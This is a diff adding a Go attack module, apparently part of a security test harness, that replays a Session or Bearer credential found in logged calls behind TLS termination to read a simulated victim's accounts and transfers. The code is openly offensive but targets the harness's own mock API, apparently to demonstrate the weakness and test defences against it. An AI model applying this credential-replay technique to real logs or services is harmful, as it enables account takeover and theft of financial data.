@@ -1,0 +1,67 @@
+package attacker
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"strings"
+
+	"keyladder/internal/problem"
+	"keyladder/internal/traffic"
+)
+
+func init() { attacks["stolen-bearer"] = stolenBearer }
+
+// stolenBearer takes what stands for the user out of a call that was logged behind the
+// end of TLS, and nothing else, and uses it in a call of its own from there. The log
+// holds no secret with which the app could be imitated.
+//
+//keyladder:code attack-stolen-bearer
+func stolenBearer(ctx context.Context, g *Ground) (Result, error) {
+	if err := g.Inside.VictimPays(ctx); err != nil {
+		return Result{}, fmt.Errorf("the victim does not pay: %w", err)
+	}
+	var bearer *Captured
+	for _, call := range g.Inside.Calls() {
+		scheme, _, _ := strings.Cut(call.Header.Get("Authorization"), " ")
+		if strings.EqualFold(scheme, "Session") || strings.EqualFold(scheme, "Bearer") {
+			bearer = &call
+		}
+	}
+	if bearer == nil {
+		return Result{}, fmt.Errorf("no call in the log carries anything that stands for its user")
+	}
+	g.Say("In the log: %s %s, with a credential that stands for the victim.", bearer.Method, bearer.Target)
+	accounts, err := g.readWith(ctx, bearer, "/v1/accounts")
+	if err != nil {
+		return stopped(err)
+	}
+	from, _, err := g.robbery(accounts)
+	if err != nil {
+		return Result{}, err
+	}
+	transfers, err := g.readWith(ctx, bearer, "/v1/accounts/"+from.ID+"/transfers")
+	if err != nil {
+		return stopped(err)
+	}
+	return Result{Claim: true, Data: string(accounts) + "\n" + string(transfers)}, nil
+}
+
+// readWith reads from the API with the credential of a captured call alone. The machine
+// behind the end of TLS says which client certificate it has seen.
+func (g *Ground) readWith(ctx context.Context, stolen *Captured, path string) ([]byte, error) {
+	call := Captured{
+		Method: http.MethodGet, Target: "/" + g.Stage.Slug + path, Certificate: stolen.Certificate,
+		Header: http.Header{
+			"User-Agent": {publicUserAgent}, "Accept": {jsonMedia},
+			"Authorization": {stolen.Header.Get("Authorization")},
+			traffic.Header:  {stolen.Header.Get(traffic.Header) + "-stolen"},
+		},
+	}
+	status, body, err := g.Inside.Send(ctx, call)
+	if err != nil {
+		return nil, fmt.Errorf("send a call from there: %w", err)
+	}
+	g.Say("Sent GET %s with that credential and nothing else: %d.", path, status)
+	return body, judge(status, problem.ContentType, body)
+}
